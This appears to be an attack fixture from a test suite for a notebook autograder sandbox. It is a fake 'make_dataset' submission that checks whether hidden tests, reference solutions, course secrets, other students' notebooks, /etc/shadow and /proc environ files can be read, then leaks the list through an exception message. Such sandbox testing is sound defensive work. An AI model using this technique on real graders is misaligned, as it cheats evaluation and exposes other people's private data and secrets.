"""Attack: read what the grader keeps (the kit's hidden checks and reference solutions, the
course secret, the gradebook, other students' notebooks, the exchange, the system's users,
the grader's own environment) and send it home in an exception message."""

import glob
import os

EXERCISE = "make_dataset"
HONEST = None  # it raises: every check of its exercise fails
SCORE = 0.0
HINT = "readable: []"
COURSE_ROOT = "@COURSE_ROOT@"  # the test writes the real paths here
KIT_ROOT = "@KIT_ROOT@"


def _targets():
    yield from glob.glob(os.path.join(KIT_ROOT, "autograder", "assignments", "*", "test_*.py"))
    yield from glob.glob(os.path.join(KIT_ROOT, "solutions", "*", "*.ipynb"))
    yield from glob.glob(os.path.join(COURSE_ROOT, "*"))
    yield from glob.glob(os.path.join(COURSE_ROOT, "submitted", "*", "*", "*.ipynb"))
    yield from ["/etc/passwd", "/etc/shadow", "/etc/hostname", os.path.expanduser("~root"), "/home", "/srv"]
    try:
        pids = os.listdir("/proc")
    except OSError:  # a sandbox that shows no /proc: nothing to read there
        pids = []
    for pid in pids:
        if pid.isdigit() and int(pid) != os.getpid():
            yield f"/proc/{pid}/environ"
            yield f"/proc/{pid}/cmdline"


def make_dataset(n_samples, n_features=2, threshold=0.5, seed=None):
    readable = []
    for path in _targets():
        try:
            if os.path.isdir(path):
                os.listdir(path)
            else:
                with open(path, "rb") as fh:
                    fh.read(1)
            readable.append(path)
        except OSError:
            pass
    raise PermissionError(f"readable: {readable}")
